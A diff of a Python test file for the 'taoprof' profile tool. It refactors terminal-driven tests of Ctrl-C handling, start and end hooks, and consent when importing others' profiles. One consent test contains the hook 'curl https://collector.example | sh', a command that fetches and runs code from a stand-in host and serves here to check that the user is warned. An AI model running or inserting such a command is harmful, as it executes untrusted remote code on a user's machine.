@@ -26,7 +26,7 @@ from taoprofiles.storage import atomic, files
 from taoprofiles.storage.locks import Lock
 from taoprofiles.storage.paths import Context
 from taoprofiles.system import processes
-from tests.support.commands import Terminal, one_clear_error
+from tests.support.commands import one_clear_error
 from tests.support.engine import until
 from tests.support.guard_process import GuardProcess, held
 from tests.support.home import require
@@ -245,8 +245,7 @@ def ended_run(sandbox: Sandbox) -> Hold:
 
 def test_ctrl_c_ends_only_the_waiting_for_who_does_not_answer(sandbox: Sandbox, web: WebReceiver) -> None:
     web.may_answer.clear()
-    words = [sandbox.taoprof, "run", "b", "--notify", web.url, "--", "sh", "-c", "exit 5"]
-    with Terminal(words, environ=sandbox.environ, cwd=sandbox.root) as terminal:
+    with sandbox.terminal(sandbox.taoprof, "run", "b", "--notify", web.url, "--", "sh", "-c", "exit 5") as terminal:
         until(lambda: web.messages, "the message is there")
         terminal.send("\x03")
         output = terminal.wait_for("in the background")
@@ -504,8 +503,8 @@ def test_a_hook_that_fails_or_hangs_is_a_warning(sandbox: Sandbox, monkeypatch: 
 @pytest.mark.parametrize("end", ["Ctrl-C", "SIGTERM", "SIGHUP", "stop"])
 def test_a_run_that_is_ended_while_on_start_runs_leaves_nothing(sandbox: Sandbox, end: str) -> None:
     add_keys(sandbox, f"on_start = 'echo $$ >{sandbox.root}/start; sleep 1000'\non_end = 'touch {sandbox.root}/end'")
-    words = [sandbox.taoprof, "run", "b", *(["--detach"] * (end == "stop")), "--", "touch", "started"]
-    with Terminal(words, environ=sandbox.environ, cwd=sandbox.root) as terminal:
+    options = ["--detach"] * (end == "stop")
+    with sandbox.terminal(sandbox.taoprof, "run", "b", *options, "--", "touch", "started") as terminal:
         until(lambda: (sandbox.root / "start").exists() and (sandbox.root / "start").read_text(), "the hook runs")
         if end == "stop":
             sandbox.run("stop", "-", check=True)
@@ -582,8 +581,7 @@ def test_import_takes_commands_and_targets_of_others_only_with_consent(sandbox: 
     sandbox.run("import", "theirs.toml", "--name", "e", "--yes", check=True)
     assert (sandbox.profiles / "e.toml").read_text() == FOREIGN
     for answer, is_kept in (("n", False), ("", False), ("y", True)):
-        words = [sandbox.taoprof, "import", "theirs.toml", "--name", "f", "--force"]
-        with Terminal(words, environ=sandbox.environ, cwd=sandbox.root) as terminal:
+        with sandbox.terminal(sandbox.taoprof, "import", "theirs.toml", "--name", "f", "--force") as terminal:
             shown = terminal.wait_for("Keep it? [y/N]")
             assert "on_start: curl https://collector.example | sh" in shown
             assert "notify: json://collector.example/x" in shown
